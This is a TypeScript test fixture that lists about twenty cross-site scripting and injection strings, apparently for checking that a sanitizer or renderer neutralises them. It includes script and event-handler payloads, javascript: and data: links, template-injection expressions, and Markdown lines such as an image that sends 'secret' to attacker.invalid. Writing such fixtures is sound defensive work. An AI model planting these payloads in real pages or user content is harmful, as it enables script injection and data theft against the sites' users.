/** Texts that try to become code: markup, links, templates, and ways out of attributes and of inline JSON. */
export const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  '<script>alert(2)</script>',
  '</script><script>alert(3)</script>',
  '<svg onload=alert(4)><animate onbegin=alert(5) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">',
  '<style>*{display:none}</style><base href="https://attacker.invalid/">',
  '<form action="https://attacker.invalid/"><button>',
  '<noscript><p title="</noscript><img src=x onerror=alert(8)>">',
  '[click](javascript:alert(9)) ![x](https://attacker.invalid/?q=secret)',
  '[d](data:text/html,<script>alert(10)</script>)',
  '<a href="javascript:alert(11)">x</a> <a href="vbscript:msgbox(1)">y</a> <https://attacker.invalid>',
  '"><input autofocus onfocus=alert(12)>',
  "' onmouseover='alert(13)",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it is
  '{{constructor.constructor("alert(14)")()}} ${alert(15)} #{alert(16)} <%= alert(17) %>',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(18)>',
  '\u2028alert(19)\u2029 \u202Ertl \uFFFD',
  '<details open ontoggle=alert(20)>',
  '```mermaid\ngraph TD; A-->|"<img src=x onerror=alert(21)>"|B\n```',
  '<template><script>alert(22)</script></template><x-y onclick=alert(23)>',
]

/** All of them in one text. */
export const ALL_HOSTILE = HOSTILE.join('\n')
